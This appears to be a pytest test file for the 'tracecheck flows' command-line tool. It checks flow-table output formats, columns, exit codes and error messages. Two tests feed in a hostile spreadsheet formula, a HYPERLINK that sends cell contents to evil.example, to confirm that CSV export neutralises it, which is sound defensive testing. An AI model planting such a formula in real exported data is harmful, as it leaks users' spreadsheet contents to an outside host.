"""`tracecheck flows`: output formats and columns (CONTRACT.md), -o, exit codes and messages."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import struct
import subprocess
import sys
from pathlib import Path

import pytest

from capture_builders import T0, ether, frames_of, pcap_bytes, tcp, udp, write_pcap
from tracecheck import __version__
from tracecheck.report.tables import to_csv

# CONTRACT.md, "Flow table columns", in order.
CONTRACT_COLUMNS = ["uid", "ts", "duration", "proto", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p",
                    "orig_pkts", "orig_ip_bytes", "resp_pkts", "resp_ip_bytes", "server_name", "name_source", "app",
                    "vlan", "tunnel", "handshake_rtt_ms", "capture_file"]
CONTRACT_MD = Path(__file__).resolve().parents[2] / "shared" / "CONTRACT.md"

PACKETS = [
    tcp("10.0.0.1", "10.0.0.2", 40000, 8080, "S"),
    tcp("10.0.0.2", "10.0.0.1", 8080, 40000, "SA"),
    tcp("10.0.0.1", "10.0.0.2", 40000, 8080, "A"),
    udp("10.0.0.1", "10.0.0.3", 7000, 7001, payload=b"u" * 20),
]


def run(*args: str) -> tuple[int, str, str]:
    """``tracecheck ARGS`` in this process: (exit code, stdout, stderr)."""
    from tracecheck.cli import main

    out, err = io.StringIO(), io.StringIO()
    code = 0
    with pytest.MonkeyPatch.context() as mp, contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        mp.setattr(sys, "argv", ["tracecheck", *args])
        try:
            main()
        except SystemExit as exit_:
            code = exit_.code if isinstance(exit_.code, int) else (0 if exit_.code is None else 1)
    return code, out.getvalue(), err.getvalue()


def capture(tmp_path, name="c.pcap", packets=PACKETS, arp=True) -> Path:
    frames = [ether(p) for p in packets]
    if arp:
        frames.append(bytes.fromhex("ffffffffffff020000000001 0806") + bytes(28))
    return write_pcap(tmp_path / name, frames_of(frames, step_ns=1_500_000))


def assert_one_line_error(code, err, starts):
    assert code == 2
    assert err.startswith(f"tracecheck: {starts}"), err
    assert err.count("\n") == 1 and "Traceback" not in err


# --------------------------------------------------------------------------- formats


def test_contract_md_lists_these_columns():
    if not CONTRACT_MD.exists():
        pytest.skip("../shared/CONTRACT.md not present")
    text = CONTRACT_MD.read_text()
    section = text[text.index("## Flow table columns"):]
    listed = section[section.index("`uid"):section.index("capture_file`") + len("capture_file`")]
    names = [n.strip(" `\n—-") for n in listed.replace("— then tracecheck's own:", ",").split(",")]
    assert [n for n in names if n] == CONTRACT_COLUMNS


def test_csv_header_and_rows(tmp_path):
    path = capture(tmp_path)
    code, out, err = run("flows", str(path))
    assert code == 0
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0] == CONTRACT_COLUMNS
    table = [dict(zip(rows[0], r)) for r in rows[1:]]
    assert len(table) == 2
    tcp_row, udp_row = table
    assert {k: tcp_row[k] for k in ("ts", "duration", "proto", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p",
                                    "orig_pkts", "orig_ip_bytes", "resp_pkts", "resp_ip_bytes", "vlan", "tunnel",
                                    "handshake_rtt_ms", "capture_file")} == {
        "ts": "1700000000.0", "duration": "0.003", "proto": "tcp", "id.orig_h": "10.0.0.1", "id.orig_p": "40000",
        "id.resp_h": "10.0.0.2", "id.resp_p": "8080", "orig_pkts": "2", "orig_ip_bytes": "80", "resp_pkts": "1",
        "resp_ip_bytes": "40", "vlan": "", "tunnel": "", "handshake_rtt_ms": "1.5", "capture_file": str(path)}
    assert (udp_row["proto"], udp_row["ts"], udp_row["orig_ip_bytes"], udp_row["handshake_rtt_ms"]) == (
        "udp", "1700000000.0045", "48", "")
    assert tcp_row["uid"].startswith("C") and tcp_row["uid"] != udp_row["uid"]
    assert err == "tracecheck: 5 records, 4 decoded, skipped: non_ip:arp 1; 2 flows\n"


def test_json(tmp_path):
    code, out, _ = run("flows", str(capture(tmp_path)), "--format", "json")
    assert code == 0
    rows = json.loads(out)
    assert [list(r) for r in rows] == [CONTRACT_COLUMNS] * 2
    first = rows[0]
    assert (first["ts"], first["proto"], first["id.orig_p"], first["orig_pkts"], first["vlan"], first["handshake_rtt_ms"]) == (
        1_700_000_000.0, "tcp", 40000, 2, None, 1.5)


def test_parquet(tmp_path):
    import pyarrow.parquet as pq

    out_file = tmp_path / "flows.parquet"
    code, out, _ = run("flows", str(capture(tmp_path)), "--format", "parquet", "-o", str(out_file))
    assert code == 0 and out == ""
    table = pq.read_table(out_file)
    assert table.column_names == CONTRACT_COLUMNS
    assert table.num_rows == 2
    assert table.column("orig_ip_bytes").to_pylist() == [80, 48]
    assert table.column("id.resp_p").to_pylist() == [8080, 7001]


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_output_file(tmp_path, fmt):
    target = tmp_path / f"flows.{fmt}"
    code, out, _ = run("flows", str(capture(tmp_path)), "-f", fmt, "--output", str(target))
    assert code == 0 and out == ""
    _, stdout_version, _ = run("flows", str(capture(tmp_path)), "-f", fmt, "-o", "-")
    assert target.read_text() == stdout_version


def test_several_captures_and_gzip(tmp_path):
    a = capture(tmp_path, "a.pcap", PACKETS[:2], arp=False)
    b = write_pcap(tmp_path / "b.pcap.gz", [(T0 + 10_000_000, ether(PACKETS[2]))], gzipped=True)
    code, out, err = run("flows", str(a), str(b))
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [(r["orig_pkts"], r["resp_pkts"], r["capture_file"]) for r in rows] == [("2", "1", str(a))]
    assert "3 records, 3 decoded; 1 flows" in err


def test_quiet_hides_the_summary_but_not_warnings(tmp_path):
    data = pcap_bytes(frames_of([ether(p) for p in PACKETS]))
    (tmp_path / "cut.pcap").write_bytes(data[:-10])
    code, out, err = run("--quiet", "flows", str(tmp_path / "cut.pcap"))
    assert code == 0
    assert err == (f"tracecheck: warning: {tmp_path / 'cut.pcap'}: the last record (byte {len(data) - 16 - 14 - 48}, "
                   f"{16 + 14 + 48 - 10} of its bytes) is cut short: the file is truncated\n")
    assert len(list(csv.reader(io.StringIO(out)))) == 2  # header and the TCP flow


def test_truncated_capture_exits_0_with_a_warning(tmp_path):
    data = pcap_bytes(frames_of([ether(p) for p in PACKETS]))
    (tmp_path / "cut.pcap").write_bytes(data[:-10])
    code, out, err = run("flows", str(tmp_path / "cut.pcap"))
    assert code == 0
    lines = err.splitlines()
    assert lines[0].startswith("tracecheck: warning: ") and "truncated" in lines[0]
    assert lines[1] == "tracecheck: 4 records, 3 decoded, skipped: truncated_record 1; 1 flows"


def test_csv_formula_injection_is_neutralised():
    rows = [{"server_name": '=HYPERLINK("http://evil.example/?"&A1,"click")', "app": "+cmd", "name_source": "@SUM(1)",
             "tunnel": "-2+3", "uid": "\tx", "vlan": -1, "duration": -0.5, "ts": 1.0}]
    text = to_csv(rows, ["server_name", "app", "name_source", "tunnel", "uid", "vlan", "duration", "ts"])
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["server_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert (row["app"], row["name_source"], row["tunnel"], row["uid"]) == ("'+cmd", "'@SUM(1)", "'-2+3", "'\tx")
    assert (row["vlan"], row["duration"], row["ts"]) == ("-1", "-0.5", "1.0")  # numbers are left alone


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_a_hostile_server_name_through_the_flow_table(tmp_path, fmt):
    """A ClientHello whose SNI is a formula: neutralised in CSV, the capture's own text in JSON,
    and either way the text the row-by-row writers made."""
    from dissect_helpers import build_client_hello, tls_records
    from test_report_tables import reference_csv, reference_json

    from tracecheck.flows.pipeline import build_named_flows
    from tracecheck.flows.table import as_record

    sni = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    hello = tls_records(build_client_hello(sni=sni))
    packets = [tcp("10.0.0.1", "10.0.0.2", 40000, 443, "S"), tcp("10.0.0.2", "10.0.0.1", 443, 40000, "SA"),
               tcp("10.0.0.1", "10.0.0.2", 40000, 443, "PA", payload=hello), PACKETS[3]]
    path = capture(tmp_path, packets=packets)
    code, out, _ = run("flows", str(path), "-f", fmt)
    assert code == 0
    seen = sni.lower()  # the dissector's form of a name
    if fmt == "csv":
        tls_row = next(row for row in csv.DictReader(io.StringIO(out)) if row["app"] == "tls")
        assert (tls_row["server_name"], tls_row["name_source"]) == ("'" + seen, "sni")
    else:
        tls_row = next(row for row in json.loads(out) if row["app"] == "tls")
        assert (tls_row["server_name"], tls_row["name_source"]) == (seen, "sni")
    rows = [as_record(flow) for flow in build_named_flows([str(path)]).result.flows]
    assert out == (reference_csv if fmt == "csv" else reference_json)(rows, CONTRACT_COLUMNS)


def test_version():
    code, out, _ = run("--version")
    assert (code, out) == (0, f"tracecheck {__version__}\n")


# --------------------------------------------------------------------------- errors: exit 2, one line


def test_not_a_capture_file(tmp_path):
    notes = tmp_path / "notes.pcap"
    notes.write_text("meeting notes\n")
    code, out, err = run("flows", str(notes))
    assert_one_line_error(code, err, f"not a capture file: {notes} (starts with 6d656574;")
    assert out == ""


def test_missing_capture_file(tmp_path):
    code, _, err = run("flows", str(tmp_path / "missing.pcap"))
    assert_one_line_error(code, err, f"cannot read {tmp_path / 'missing.pcap'}: No such file or directory")


def test_unknown_format(tmp_path):
    code, out, err = run("flows", str(capture(tmp_path)), "--format", "xml")
    assert_one_line_error(code, err, "")
    assert "xml" in err and "csv, json, parquet" in err and out == ""


def test_parquet_needs_an_output_file(tmp_path):
    code, _, err = run("flows", str(capture(tmp_path)), "--format", "parquet")
    assert_one_line_error(code, err, "parquet is binary: give an output file with -o FILE")


@pytest.mark.parametrize("fmt", ["csv", "json", "parquet"])
def test_unwritable_output(tmp_path, fmt):
    """Regression (parquet): pyarrow's FileNotFoundError came out as a traceback."""
    code, _, err = run("flows", str(capture(tmp_path)), "--format", fmt, "-o", str(tmp_path / "no" / "such" / "dir.out"))
    assert_one_line_error(code, err, f"cannot write {tmp_path / 'no' / 'such' / 'dir.out'}: ")


@pytest.mark.parametrize("args", [["flows"], ["flows", "x.pcap", "--bogus"]])
def test_usage_errors(args):
    code, _, err = run(*args)
    assert_one_line_error(code, err, "")


def test_real_process_exit_codes_and_no_traceback(tmp_path):
    """The installed entry point, in its own process: bad input, a 2 GB record claim, success."""
    (tmp_path / "text.pcap").write_text("not a capture")
    data = bytearray(pcap_bytes(frames_of([ether(p) for p in PACKETS])))
    data += struct.pack("<IIII", 1, 0, 2_000_000_000, 2_000_000_000) + bytes(64)
    (tmp_path / "claim.pcap").write_bytes(bytes(data))
    script = "import sys; from tracecheck.cli import main; sys.argv[0] = 'tracecheck'; main()"

    def cli(*args):
        return subprocess.run([sys.executable, "-c", script, *args], capture_output=True, text=True, timeout=60)

    bad = cli("flows", str(tmp_path / "text.pcap"))
    assert bad.returncode == 2 and bad.stdout == ""
    assert bad.stderr.startswith(f"tracecheck: not a capture file: {tmp_path / 'text.pcap'} (") and bad.stderr.count("\n") == 1
    claim = cli("flows", str(tmp_path / "claim.pcap"), "-f", "json")
    assert claim.returncode == 0, claim.stderr
    assert "Traceback" not in claim.stderr
    assert "claims a 2000000000-byte frame" in claim.stderr
    assert "5 records, 4 decoded, skipped: corrupt_record_header 1; 2 flows" in claim.stderr
    assert len(json.loads(claim.stdout)) == 2
